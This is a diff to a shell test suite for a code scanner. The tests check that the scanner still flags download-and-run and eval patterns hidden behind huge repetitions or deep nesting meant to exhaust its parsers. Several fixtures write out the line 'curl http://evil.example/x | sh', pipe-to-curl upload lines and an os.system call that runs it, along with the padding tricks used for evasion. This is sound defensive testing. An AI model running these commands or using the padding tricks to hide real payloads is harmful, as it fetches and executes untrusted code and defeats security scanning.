@@ -330,7 +330,38 @@ END
 
 # What is too much for a parser does not pass for harmless.
 python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
-finds long.sh '' unparsable 'could not be parsed: the parser ended with status failed (1)'
+finds long.sh 1 unparsable 'could not be parsed: OverflowError: too many commands'
+finds long.sh 100002 download-run 'curl http://evil.example/x | sh'
+# What one part of a program leads to costs nothing that is found in the others.
+printf '%s\n' '>x | curl y' '<f | curl -T - x' '2>&1 | curl x' 'curl http://evil.example/x | sh' >bare.sh
+finds bare.sh 4 download-run 'curl http://evil.example/x | sh'
+! grep -q unparsable out || fail "bare.sh: $(cat out)"
+# shellcheck disable=SC2016
+python3 -c 'print("curl http://evil.example/x | sh\n" + "$(" * 10000)' >inner.sh
+finds inner.sh 1 download-run 'curl http://evil.example/x | sh'
+grep -q '^inner.sh:1: unparsable: could not be parsed: RecursionError' out || fail "inner.sh: $(cat out)"
+python3 -c 'print("import os\nos.system(\"curl http://evil.example/x | sh\")\nx = " + "__import__(" * 60 + "y" +
+	").decode()" * 60)' >inner.py
+finds inner.py 2 download-run 'curl http://evil.example/x | sh'
+# Nor does it take long, whatever is repeated.
+python3 -c 'n = 300000
+for what in ["rm -" + "r" * n, "curl " * n, "-rm -r " * n, "-mv " * n, "cd" + " " * n, "chrome" * n, "nc -" + "e" * n]:
+	print("PS4=\"" + what[:n] + "\" " + what[:n])
+print("1" * n + "x\na" + "[a" * (n // 2) + "\n" + "sh | " * 9000 + "sh\n" + "(" * 300 +
+	"\ncurl http://evil.example/x | sh")
+' >slow.sh
+finds slow.sh 12 download-run 'curl http://evil.example/x | sh'
+python3 -c 'n = 100000
+print("environ" * n + "[1] = 1\neval(x)")' >slow.py
+finds slow.py 2 dynamic 'eval(x)'
+if command -v node >/dev/null; then
+	# shellcheck disable=SC2016
+	echo 'process.env["PATH("] = "$PATH("; process.env["A+B"] = "1"; eval(x)' >names.js
+	finds names.js 1 dynamic 'eval(x)'
+	python3 -c 'print("eval(x);\nlet a = \"x\";" + "a = a + a;" * 60 + "let q = " + "Buffer.from(" * 60 + "1" +
+		", \"hex\").toString()" * 60)' >slow.js
+	finds slow.js 1 dynamic 'eval(x)'
+fi
 # What looks like a list in braces, and is none, takes no longer than other words.
 python3 -c 'print("{a" + "," * 5000 + " x\ncurl http://evil.example/x | sh")' >braces.sh
 finds braces.sh 2 download-run 'curl http://evil.example/x | sh'
@@ -339,7 +370,7 @@ finds deep.sh 1 obfuscated 'programs in programs, more than 8 deep'
 if command -v node >/dev/null; then
 	python3 -c 'print("(" * 20000 + "1" + ")" * 20000)' >deep.js
 	cg inspect deep.js >out
-	grep -qE '^deep.js: unparsable: ' out || fail "deep.js: $(cat out)"
+	grep -qE '^deep.js(:1)?: unparsable: ' out || fail "deep.js: $(cat out)"
 fi
 
 # ELF files.
